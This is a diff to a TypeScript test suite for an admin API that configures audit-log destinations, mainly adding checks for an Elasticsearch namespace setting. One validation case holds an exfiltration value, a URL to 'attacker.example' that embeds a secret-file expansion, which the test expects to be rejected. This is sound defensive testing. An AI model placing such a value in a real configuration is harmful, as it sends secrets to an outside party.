@@ -18,7 +18,7 @@ const samples: Record<string, Record<string, unknown>> = {
   syslog: { type: 'syslog', host: '127.0.0.1', port: 1, tls: false },
   otlp_http: { type: 'otlp_http', endpoint: 'https://127.0.0.1:1/v1/logs', headers: { Authorization: `Bearer ${SECRET}` } },
   kafka: { type: 'kafka', brokers: ['127.0.0.1:1'], topic: 'audit' },
-  elasticsearch: { type: 'elasticsearch', url: 'https://127.0.0.1:1', apiKey: SECRET },
+  elasticsearch: { type: 'elasticsearch', url: 'https://127.0.0.1:1', apiKey: SECRET, namespace: 'audit_prod' },
 };
 
 describe('admin API', () => {
@@ -109,6 +109,8 @@ describe('admin API', () => {
       const config = readFileSync(admin.control.state.configPath, 'utf8');
       assert.ok(!config.includes(SECRET), 'a secret is in the Collector config');
       assert.ok(config.includes(`logs/${id}:`));
+      // Elastic's OTLP intake routes by data_stream.* attributes: the namespace is set on each record (the Collector validated the statement).
+      if (type === 'elasticsearch') assert.ok(config.includes(`set(attributes["data_stream.namespace"], "audit_prod")`), 'the namespace is set');
 
       const deleted = await client.change('DELETE', `/api/destinations/${id}`);
       assert.equal(deleted.status, 200, deleted.text);
@@ -145,6 +147,8 @@ describe('admin API', () => {
       [{ id: 'x', name: 'X', type: 'kafka', brokers: ['k:9092'], filter: { include: ['user.*', 'bad pattern'] } }, 'destination.filter.include[1]', /action pattern/],
       [{ id: 'x', name: 'X', type: 'kafka', brokers: ['k:9092'], url: 'https://a' }, 'destination.url', /is not a setting of a kafka destination/],
       [{ id: 'x', name: 'X', type: 'pigeon' }, 'destination.type', /must be one of splunk_hec/],
+      [{ id: 'x', name: 'X', type: 'elasticsearch', url: 'https://es.example.com', index: 'audit' }, 'destination.index', /is not a setting of a elasticsearch destination \(Elastic's OTLP intake .*: set namespace\)/],
+      [{ id: 'x', name: 'X', type: 'elasticsearch', url: 'https://es.example.com', namespace: 'audit-prod' }, 'destination.namespace', /data stream namespace/],
       [{ id: 'x', name: 'X', type: 'otlp_http', endpoint: 'https://a/v1/logs', headers: { 'bad header': 'v' } }, 'destination.headers.bad header', /not a valid header name/],
       // The Collector expands ${file:...} and ${env:...}: a setting must not make it send its secrets elsewhere.
       [{ id: 'x', name: 'X', type: 'splunk_hec', url: 'https://attacker.example/?a=${file:/etc/otel/secret}', token: 't' }, 'destination.url', /must not contain \$/],
